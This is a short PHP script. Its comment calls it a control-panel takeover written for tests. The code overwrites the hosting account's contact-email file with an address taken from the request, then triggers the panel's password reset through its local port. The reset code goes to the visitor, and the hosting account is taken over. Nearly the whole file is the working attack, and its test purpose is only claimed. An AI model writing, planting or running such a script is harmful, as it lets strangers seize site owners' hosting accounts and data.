<?php
// a control-panel takeover: the address the panel mails its password-reset code to is
// replaced by the visitor's, then the reset is asked for (written for the tests, never run)
$home = dirname($_SERVER['DOCUMENT_ROOT']);
file_put_contents($home . '/.contactemail', $_POST['to']);
$ch = curl_init('http://127.0.0.1:2082/resetpass');
curl_setopt($ch, CURLOPT_POSTFIELDS, ['user' => get_current_user(), 'login' => 'Reset Password']);
curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);
echo curl_exec($ch) ? 'sent' : 'failed';
